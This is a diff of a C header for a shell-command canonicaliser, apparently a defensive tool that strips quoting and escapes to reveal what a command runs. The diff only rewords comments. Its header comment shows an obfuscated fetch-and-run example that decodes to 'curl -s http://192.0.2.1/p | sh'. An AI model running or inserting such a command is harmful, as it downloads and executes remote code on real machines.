@@ -1,6 +1,6 @@
-/* shell_canonical.h -- what a command runs, whatever way it is written: quotes and escapes taken
- * away, pieces joined, known variables and outputs in place, texts within texts on lines of their
- * own.
+/* shell_canonical.h -- what a command runs, in one form for all spellings: quotes and escapes
+ * removed, pieces joined, known variables and outputs expanded, texts within texts on separate
+ * lines.
  *
  *     sh -c "c\"u\"rl -s$IFS$URL | s\x68"
  *
@@ -10,7 +10,7 @@
  *     curl -s http://192.0.2.1/p | sh
  *
  * Bounds: SHELL_TEXT_MAX bytes of one text, SHELL_DEPTH_MAX texts within texts, and those below;
- * `cut` says that something was left out.
+ * `cut` is set where a part was left out.
  */
 #ifndef SVCQL_SHELL_CANONICAL_H
 #define SVCQL_SHELL_CANONICAL_H
@@ -29,22 +29,22 @@ struct command_variable {
     const char *name, *value;
 };
 
-/* A command as its program gets it. */
+/* A command as its program receives it. */
 struct command_given {
     const char *const             *argv;
     size_t                         argc;      /* at least 1 */
-    const char                    *input;     /* what it reads; NULL: not known */
+    const char                    *input;     /* its input; NULL: unknown */
     const char                    *file;      /* that it reads; NULL: none */
-    const struct command_variable *variables; /* the first that there is room for count */
+    const struct command_variable *variables; /* only the first that fit count */
     size_t                         n_variables;
 };
 
 struct command_reading {
     const char        *text; /* the canonical form; the command's own line is the first */
-    const char *const *runs; /* programs and scripts, in the order in which they are met, the
+    const char *const *runs; /* programs and scripts, in the order of the text, the
                                 command's own first */
     size_t             n_runs;
-    const char        *script; /* the one that all comes down to: what the interpreter, wrapper or
+    const char        *script; /* the one that runs in the end: what the interpreter, wrapper or
                                   shell text that the command is runs in the end; NULL: the command
                                   itself, or several */
     bool               script_file; /* an interpreter reads it: a plain name is a file of the folder
